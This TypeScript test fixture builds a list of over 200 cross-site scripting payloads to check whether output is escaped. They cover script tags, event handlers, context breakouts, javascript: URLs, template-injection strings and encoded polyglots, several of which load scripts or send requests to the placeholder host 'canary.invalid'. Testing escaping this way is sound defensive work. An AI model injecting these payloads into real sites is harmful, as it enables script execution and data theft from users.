// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are what other languages' templates would fill in
/**
 * Texts that would run, or call out, wherever they are written without being escaped. Each shows itself: by a dialog, by a
 * request to `CANARY_HOST`, or by a breach of the content security policy. Made from ways in and ways to run, so that the
 * list holds what the well-known ones have in common.
 */
export const CANARY_HOST = 'canary.invalid'

const run = ['alert(1)', `fetch('//${CANARY_HOST}/f')`, `new Image().src='//${CANARY_HOST}/i'`]

const tags = run.flatMap(code => [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<script src=//${CANARY_HOST}/s.js></script>`,
  `<img src=x onerror="${code}">`,
  `<img src=x onerror=${code.replaceAll(' ', '/**/')}>`,
  `<img/src/onerror=${code.replaceAll(' ', '/**/')}>`,
  `<svg onload="${code}">`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror="${code}"></style></mtext></math>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="javascript:${code}">`,
  `<details open ontoggle="${code}">`,
  `<video><source onerror="${code}"></video>`,
  `<audio src=x onerror="${code}">`,
  `<body onload="${code}">`,
  `<input autofocus onfocus="${code}">`,
  `<select autofocus onfocus="${code}">`,
  `<marquee onstart="${code}">`,
  `<style onload="${code}"></style>`,
  `<form><button formaction="javascript:${code}" autofocus>`,
  `<a href="javascript:${code}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror='${code.replaceAll("'", '`')}'>">`,
])

const outOf = ['"', "'", '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '"} ', '\\"']
const wayIn = outOf.flatMap(end => [
  `${end}<img src=x onerror=alert(1)>`,
  `${end} autofocus onfocus=alert(1) x=`,
  `${end}<script src=//${CANARY_HOST}/e.js></script>`,
])

const addresses = ['javascript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'JaVaScRiPt:alert(1)']
const elsewhere = [
  `<link rel=stylesheet href=//${CANARY_HOST}/c.css>`,
  `<style>@import '//${CANARY_HOST}/c.css'</style>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}/m">`,
  `<base href=//${CANARY_HOST}/>`,
  `<img src=//${CANARY_HOST}/p.png>`,
  `<img srcset="//${CANARY_HOST}/q.png 1x">`,
  `<iframe src=//${CANARY_HOST}/frame>`,
  `<form action=//${CANARY_HOST}/post><input name=email></form>`,
]
const templates = [
  '{{{{constructor.constructor("alert(1)")()}}}}',
  '${{alert(1)}}',
  '<% alert(1) %>',
  '{{{alert(1)}}}',
  '${this.constructor.constructor("alert(1)")()}',
  '@{alert(1)}',
  '[[${alert(1)}]]',
  '<!--#exec cmd=alert(1) -->',
  '<?php alert(1) ?>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[x](javascript:alert(1))',
]
const encoded = [
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '\ufeff<img src=x onerror=alert(1)>',
  '<\u000bimg src=x onerror=alert(1)>',
  '＜img src=x onerror=alert(1)＞',
  '\u202e<img src=x onerror=alert(1)>',
]
const mixed = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '"><svg/onload=alert(1)>\'><svg/onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
]

/** 200 at least. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...tags,
    ...wayIn,
    ...addresses.flatMap(address => [address, `<a href="${address}">x</a>`]),
    ...elsewhere,
    ...elsewhere.map(text => `">${text}`),
    ...outOf.flatMap(end => elsewhere.slice(0, 4).map(text => end + text)),
    ...templates,
    ...encoded,
    ...mixed,
  ]),
]
